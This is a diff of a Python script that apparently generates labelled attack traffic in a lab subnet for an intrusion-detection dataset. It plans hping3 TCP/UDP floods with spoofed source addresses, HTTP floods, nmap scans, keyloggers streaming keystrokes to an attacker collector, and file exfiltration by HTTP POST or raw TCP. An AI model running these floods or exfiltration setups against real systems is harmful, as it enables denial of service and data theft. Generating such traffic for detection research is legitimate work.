@@ -18,6 +18,10 @@ from pathlib import Path
 
 AGENTS = str(Path(__file__).with_name("agents.py"))
 SUBNET = "10.77.0"
+#: Version of the attack plans, recorded in truth.json.  1: one random variant per run
+#: (runs 0-5 of the first dataset); 2: variants cycled by run index, two flood phases,
+#: small attackers, several Theft sessions/uploads per run.
+PLAN_VERSION = 2
 #: Unassigned part of the lab subnet used as spoofed sources (hping3 ``-a``).
 SPOOF_NET = f"{SUBNET}.128/26"
 
@@ -144,27 +148,44 @@ def normal_steps(rng: random.Random, duration: float) -> tuple[list[Step], list[
 # ----------------------------------------------------------------------------- attacks
 
 
-def _hping_tcp_flags(rng: random.Random) -> list[str]:
-    return rng.choice([["-S"], ["-S"], ["-S"], ["-A"], ["-S", "-A"], ["-F", "-P", "-U"], ["-R"]])
+#: hping3 TCP flag sets; every TCP flood run uses two of them, cycled by run index
+#: (see :func:`plan_attack`), so any 3 consecutive runs cover all five.
+TCP_FLAG_SETS: list[list[str]] = [["-S"], ["-A"], ["-S", "-A"], ["-F", "-P", "-U"], ["-R"]]
+#: payload size classes, cycled per phase: none, tiny, small, large
+_PAYLOADS = [(0, 0), (1, 64), (64, 512), (0, 0), (512, 1400)]
+DOS_SPOOF = ["none", "subnet", "none", "random"]
+DDOS_SPOOF = ["none", "subnet", "random"]
+PHASES = 2  # floods: consecutive phases per run, each its own variant
 
 
-def _flood(rng, kind: str, bots: list[str], seconds: float, total_rate: float, spoof: str) -> tuple[list[Step], list[str], list[str], dict]:
+def _hping_tcp_flags(variant: int, phase: int = 0) -> list[str]:
+    """Flag set of ``phase`` in run ``variant``: runs k and k+1 together cover every set."""
+    return TCP_FLAG_SETS[(PHASES * variant + phase) % len(TCP_FLAG_SETS)]
+
+
+def _variant(rng: random.Random, variant: int | None) -> int:
+    return rng.randrange(1000) if variant is None else variant
+
+
+def _flood_phase(rng, kind: str, bots: list[str], seconds: float, total_rate: float, spoof: str, v: int, phase: int,
+                 delay: float) -> tuple[list[Step], str, list[str], dict]:
+    """One phase of a TCP/UDP flood: every bot runs hping3 for ``seconds`` from ``delay``."""
+    random_port = (v + phase) % 3 == 2
     if kind == "tcp":
-        victim, port = rng.choice(TCP_TARGETS)
-        if rng.random() < 0.3:
-            port = rng.randint(1, 65535)
-        proto_opts = _hping_tcp_flags(rng)
+        victim, port = TCP_TARGETS[(v + phase) % len(TCP_TARGETS)] if rng.random() < 0.5 else rng.choice(TCP_TARGETS)
+        proto_opts = _hping_tcp_flags(v, phase)
     else:
-        victim, port = rng.choice(UDP_TARGETS)
-        if rng.random() < 0.3:
-            port = rng.randint(1, 65535)
+        victim, port = UDP_TARGETS[(v + phase) % len(UDP_TARGETS)] if rng.random() < 0.5 else rng.choice(UDP_TARGETS)
+        if random_port:
             victim = rng.choice(["coap", "dns", "cam", "broker", "telnet"])
         proto_opts = ["--udp"]
-    size = rng.choice([0, 0, rng.randint(1, 64), rng.randint(64, 512)])
+    if random_port:
+        port = rng.randint(1, 65535)
+    lo, hi = _PAYLOADS[(v + 3 * phase) % len(_PAYLOADS)]
+    size = rng.randint(lo, hi) if hi else 0
     per_bot = total_rate / len(bots)
     interval_us = max(50, int(1e6 / per_bot))
-    count = min(30000 // len(bots), int(seconds * 1e6 / interval_us) + 1)
-    spoof_nets = []
+    count = max(1, min(30000 // len(bots) // PHASES, int(seconds * 1e6 / interval_us) + 1))
     steps = []
     for bot in bots:
         argv = ["hping3", *proto_opts, "-p", str(port), "-i", f"u{interval_us}", "-c", str(count), "-q"]
@@ -177,36 +198,103 @@ def _flood(rng, kind: str, bots: list[str], seconds: float, total_rate: float, s
         if rng.random() < 0.5 and kind == "tcp":
             argv += ["-s", str(rng.randint(1024, 60000))]  # base source port (hping3 increments it)
         argv.append(ip(victim))
-        steps.append(Step(bot, _timeout(seconds + 2, argv)))
-    if spoof == "subnet":
-        spoof_nets = [SPOOF_NET]
-    elif spoof == "random":
-        spoof_nets = ["0.0.0.0/0"]
+        steps.append(Step(bot, _timeout(seconds + 2, argv), delay=delay))
     params = {"port": port, "payload": size, "interval_us": interval_us, "count_per_bot": count,
-              "bots": len(bots), "spoof": spoof, "flags": " ".join(proto_opts)}
-    return steps, [victim], spoof_nets, params
+              "bots": len(bots), "spoof": spoof, "flags": " ".join(proto_opts), "victim": victim, "delay": delay}
+    return steps, victim, proto_opts, params
 
 
-def plan_attack(scenario: str, rng: random.Random, seconds: float, scale: float = 1.0) -> AttackPlan:
-    """The attack of ``scenario``; ``scale`` multiplies flood rates and request counts (samples use < 1)."""
+def _straggler(rng, kind: str, bot: str, victim: str, port: int, proto_opts: list[str], seconds: float) -> tuple[Step, dict]:
+    """A small attacker: a short, low-rate burst (3-60 packets) from one more bot, own address."""
+    rate = rng.uniform(5, 60)
+    interval_us = int(1e6 / rate)
+    count = rng.randint(3, 60)
+    delay = round(rng.uniform(0, max(0.0, seconds - 3)), 2)
+    length = min(seconds - delay, count * interval_us / 1e6 + 1)
+    argv = ["hping3", *proto_opts, "-p", str(port), "-i", f"u{interval_us}", "-c", str(count), "-q"]
+    if rng.random() < 0.5 and kind == "tcp":
+        argv += ["-s", str(rng.randint(1024, 60000))]
+    argv.append(ip(victim))
+    return Step(bot, _timeout(max(2.0, length) + 2, argv), delay=delay), {"bot": bot, "count": count, "interval_us": interval_us, "delay": delay}
+
+
+def _flood(rng, kind: str, bots: list[str], seconds: float, total_rate: float, spoofs: list[str], v: int,
+           straggler: str | None = None) -> tuple[list[Step], list[str], list[str], dict]:
+    """A flood in ``PHASES`` consecutive phases (flags, port, payload, spoofing and rate change per phase)."""
+    steps, victims, spoof_nets, phases = [], [], [], []
+    length = seconds / PHASES
+    for i in range(PHASES):
+        rate = total_rate * rng.choice([1.0, 1.0, 0.5, rng.uniform(0.02, 0.1)])  # sometimes a low-rate phase
+        spoof = spoofs[i % len(spoofs)]
+        st, victim, opts, params = _flood_phase(rng, kind, bots, length, rate, spoof, v, i, round(i * length, 2))
+        steps += st
+        phases.append(params)
+        if victim not in victims:
+            victims.append(victim)
+        net = {"subnet": SPOOF_NET, "random": "0.0.0.0/0"}.get(spoof)
+        if net and net not in spoof_nets:
+            spoof_nets.append(net)
+    extra = {}
+    if straggler:
+        p0 = phases[0]
+        step, extra = _straggler(rng, kind, straggler, p0["victim"], p0["port"], _hping_tcp_flags(v, 0) if kind == "tcp" else ["--udp"], seconds)
+        steps.append(step)
+    params = {"phases": phases, "bots": len(bots), "flags": " / ".join(p["flags"] for p in phases),
+              "spoof": " / ".join(p["spoof"] for p in phases), "straggler": extra}
+    return steps, victims, spoof_nets, params
+
+
+def plan_attack(scenario: str, rng: random.Random, seconds: float, scale: float = 1.0, variant: int | None = None) -> AttackPlan:
+    """The attack of ``scenario``; ``scale`` multiplies flood rates and request counts (samples use < 1).
+
+    ``variant`` (the run index) picks the systematic variants deterministically so that
+    consecutive runs cover them: TCP flag sets, spoofing modes, payload classes, service or
+    random ports, HTTP keep-alive, small attackers, Theft session counts.  ``None`` draws
+    one from ``rng``.
+    """
     cat, sub = SCENARIOS[scenario]
+    v = _variant(rng, variant)
     if scenario in ("dos_tcp", "dos_udp", "ddos_tcp", "ddos_udp"):
         ddos = scenario.startswith("ddos")
-        bots = rng.sample(ATTACKERS, rng.randint(2, 4)) if ddos else [rng.choice(ATTACKERS)]
-        spoof = rng.choice(["none", "subnet", "random"]) if ddos else rng.choice(["none", "none", "none", "subnet"])
+        straggler = None
+        if ddos:
+            n = 2 + v % 3  # 2, 3, 4 bots
+            bots = rng.sample(ATTACKERS, n)
+            if n < 4 and v % 2 == 0:  # a small attacker beside the big ones
+                straggler = rng.choice([a for a in ATTACKERS if a not in bots])
+            spoofs = [DDOS_SPOOF[(v + i) % 3] for i in range(PHASES)]
+        else:
+            bots = [rng.choice(ATTACKERS)]
+            spoofs = [DOS_SPOOF[(v + i) % len(DOS_SPOOF)] for i in range(PHASES)]
         rate = rng.uniform(800, 3000) * scale
-        steps, victims, spoofed, params = _flood(rng, scenario.split("_")[1], bots, seconds, rate, spoof)
-        return AttackPlan(cat, sub, bots, victims, steps, seconds, spoofed, params)
+        steps, victims, spoofed, params = _flood(rng, scenario.split("_")[1], bots, seconds, rate, spoofs, v, straggler)
+        return AttackPlan(cat, sub, bots + ([straggler] if straggler else []), victims, steps, seconds, spoofed, params)
     if scenario in ("dos_http", "ddos_http"):
-        bots = rng.sample(ATTACKERS, rng.randint(2, 4)) if scenario == "ddos_http" else [rng.choice(ATTACKERS)]
-        threads = rng.randint(2, 12)
-        keepalive = rng.choice([0, 1])
-        gap = rng.choice([0.0, 0.0, round(rng.uniform(0.001, 0.02), 4)])
-        count = max(50, int(min(20000 // len(bots), rng.randint(2000, 12000)) * scale))
-        steps = [Step(b, _timeout(seconds + 2, _py("http-flood", host=ip("cam"), port=80, threads=threads, keepalive=keepalive,
-                                                   gap=gap, count=count, seed=rng.randint(0, 2**31), duration=round(seconds, 1))))
-                 for b in bots]
-        return AttackPlan(cat, sub, bots, ["cam"], steps, seconds, [], {"threads": threads, "keepalive": keepalive, "gap": gap, "count_per_bot": count, "bots": len(bots)})
+        ddos = scenario == "ddos_http"
+        bots = rng.sample(ATTACKERS, 2 + v % 3) if ddos else [rng.choice(ATTACKERS)]
+        steps, phases = [], []
+        length = seconds / PHASES
+        for i in range(PHASES):
+            keepalive = (v + i) % 2
+            threads = [1, 2, 3, 4, 6, 8, 12][(3 * v + i) % 7] if keepalive else rng.randint(2, 12)
+            gap = [0.0, 0.0, round(rng.uniform(0.001, 0.02), 4), round(rng.uniform(0.02, 0.2), 3)][(v + 2 * i) % 4]
+            count = max(20, int(min(20000 // len(bots) // PHASES, rng.randint(1000, 6000)) * scale))
+            for b in bots:
+                steps.append(Step(b, _timeout(length + 2, _py("http-flood", host=ip("cam"), port=80, threads=threads, keepalive=keepalive,
+                                                             gap=gap, count=count, seed=rng.randint(0, 2**31), duration=round(length, 1))),
+                                  delay=round(i * length, 2)))
+            phases.append({"threads": threads, "keepalive": keepalive, "gap": gap, "count_per_bot": count})
+        attackers = list(bots)
+        if ddos and len(bots) < 4 and v % 2 == 1:  # a small attacker: one keep-alive connection, a few paced requests
+            extra = rng.choice([a for a in ATTACKERS if a not in bots])
+            delay = round(rng.uniform(0, seconds / 2), 2)
+            steps.append(Step(extra, _timeout(seconds - delay + 2, _py("http-flood", host=ip("cam"), port=80, threads=1, keepalive=1,
+                                                                       gap=round(rng.uniform(0.05, 0.3), 3), count=rng.randint(5, 60),
+                                                                       seed=rng.randint(0, 2**31), duration=round(seconds - delay, 1))),
+                              delay=delay))
+            attackers.append(extra)
+            phases.append({"straggler": extra, "delay": delay})
+        return AttackPlan(cat, sub, attackers, ["cam"], steps, seconds, [], {"bots": len(bots), "phases": phases})
     if scenario == "service_scan":
         # 2-4 nmap scans (mixed scan types and timing templates) spread over the window
         attacker = rng.choice(ATTACKERS)
@@ -254,30 +342,54 @@ def plan_attack(scenario: str, rng: random.Random, seconds: float, scale: float 
             opts_used.append(" ".join([timing, *opts]))
         return AttackPlan(cat, sub, [attacker], victims, steps, seconds, [], {"scans": opts_used})
     if scenario == "keylogging":
+        # 2-3 compromised devices, each streaming keystrokes to the attacker's collector(s),
+        # over one long session or reconnecting every few seconds
         attacker = rng.choice(ATTACKERS)
-        victim = rng.choice(["telnet", "cam", "client1", "client2", "sens1"])
-        port = rng.choice([4444, 1337, 8443, 9001, 5555, rng.randint(10000, 60000)])
-        steps = [
-            Step(attacker, _timeout(seconds + 5, _py("collector", port=port)), service=True),
-            Step(victim, _timeout(seconds + 2, _py("keylogger", host=ip(attacker), port=port, seed=rng.randint(0, 2**31),
-                                                   duration=round(seconds, 1), count=2000, max_batch=rng.choice([1, 2, 4, 8]),
-                                                   min_gap=round(rng.uniform(0.02, 0.12), 3), max_gap=round(rng.uniform(0.2, 0.7), 3)))),
-        ]
-        return AttackPlan(cat, sub, [attacker], [victim], steps, seconds, [], {"port": port})
+        victims = rng.sample(["telnet", "cam", "client1", "client2", "sens1", "sens2", "coap"], 2 + v % 2)
+        steps, sessions = [], []
+        ports: list[int] = []
+        for i, victim in enumerate(victims):
+            port = rng.choice([4444, 1337, 8443, 9001, 5555, rng.randint(10000, 60000)])
+            if port not in ports:
+                ports.append(port)
+                steps.append(Step(attacker, _timeout(seconds + 5, _py("collector", port=port)), service=True))
+            session_s = [0.0, round(rng.uniform(1, 3), 1), round(rng.uniform(3, 6), 1)][(v + i) % 3]
+            delay = round(rng.uniform(0, seconds / 3), 2)
+            left = round(seconds - delay, 1)
+            steps.append(Step(victim, _timeout(left + 2, _py("keylogger", host=ip(attacker), port=port, seed=rng.randint(0, 2**31),
+                                                             duration=left, count=2000, max_batch=rng.choice([1, 2, 4, 8]),
+                                                             min_gap=round(rng.uniform(0.02, 0.12), 3), max_gap=round(rng.uniform(0.2, 0.7), 3),
+                                                             session_s=session_s)), delay=delay))
+            sessions.append({"victim": victim, "port": port, "session_s": session_s, "delay": delay})
+        return AttackPlan(cat, sub, [attacker], victims, steps, seconds, [], {"sessions": sessions})
     if scenario == "data_exfiltration":
+        # 1-2 compromised devices upload files (one connection per file) by HTTP POST or raw TCP
         attacker = rng.choice(ATTACKERS)
-        victim = rng.choice(["telnet", "cam", "client1", "client2", "coap"])
-        mode = rng.choice(["http", "tcp"])
-        port = rng.choice([80, 443, 8080, 21, 4444]) if mode == "tcp" else rng.choice([80, 8080, 8000])
-        coll = _py("collector", port=port, http_port=0) if mode == "tcp" else _py("collector", port=rng.randint(30000, 40000), http_port=port)
-        steps = [
-            Step(attacker, _timeout(seconds + 5, coll), service=True),
-            Step(victim, _timeout(seconds + 2, _py("exfil", host=ip(attacker), port=port, mode=mode, seed=rng.randint(0, 2**31),
-                                                   duration=round(seconds, 1), files=rng.randint(2, 8), min_kb=rng.choice([20, 50, 100]),
-                                                   max_kb=rng.choice([200, 400, 800]), max_total_kb=3072,
-                                                   min_gap=round(rng.uniform(0.2, 1.0), 2), max_gap=round(rng.uniform(1.0, 3.0), 2)))),
-        ]
-        return AttackPlan(cat, sub, [attacker], [victim], steps, seconds, [], {"mode": mode, "port": port})
+        victims = rng.sample(["telnet", "cam", "client1", "client2", "coap", "sens1"], 1 if v % 3 == 0 else 2)
+        steps, uploads = [], []
+        used: set[int] = set()
+        for i, victim in enumerate(victims):
+            mode = ["http", "tcp"][(v + i) % 2]
+            port = rng.choice([p for p in ([80, 443, 8080, 21, 4444] if mode == "tcp" else [80, 8080, 8000]) if p not in used])
+            used.add(port)
+            if mode == "tcp":
+                coll = _py("collector", port=port, http_port=0)
+            else:
+                sink = rng.choice([p for p in range(30000, 40000) if p not in used][:50])
+                used.add(sink)
+                coll = _py("collector", port=sink, http_port=port)
+            steps.append(Step(attacker, _timeout(seconds + 5, coll), service=True))
+            small = (v + i) % 3 == 0  # many small files or a few big ones
+            files = rng.randint(10, 30) if small else rng.randint(3, 10)
+            min_kb, max_kb = (rng.choice([2, 5, 10]), rng.choice([40, 80, 150])) if small else (rng.choice([20, 50, 100]), rng.choice([200, 400, 800]))
+            delay = round(rng.uniform(0, seconds / 4), 2)
+            left = round(seconds - delay, 1)
+            steps.append(Step(victim, _timeout(left + 2, _py("exfil", host=ip(attacker), port=port, mode=mode, seed=rng.randint(0, 2**31),
+                                                             duration=left, files=files, min_kb=min_kb, max_kb=max_kb, max_total_kb=3072,
+                                                             min_gap=round(rng.uniform(0.05, 0.4), 2), max_gap=round(rng.uniform(0.4, 1.5), 2))),
+                              delay=delay))
+            uploads.append({"victim": victim, "mode": mode, "port": port, "files": files, "min_kb": min_kb, "max_kb": max_kb})
+        return AttackPlan(cat, sub, [attacker], victims, steps, seconds, [], {"uploads": uploads})
     raise ValueError(scenario)
 
 
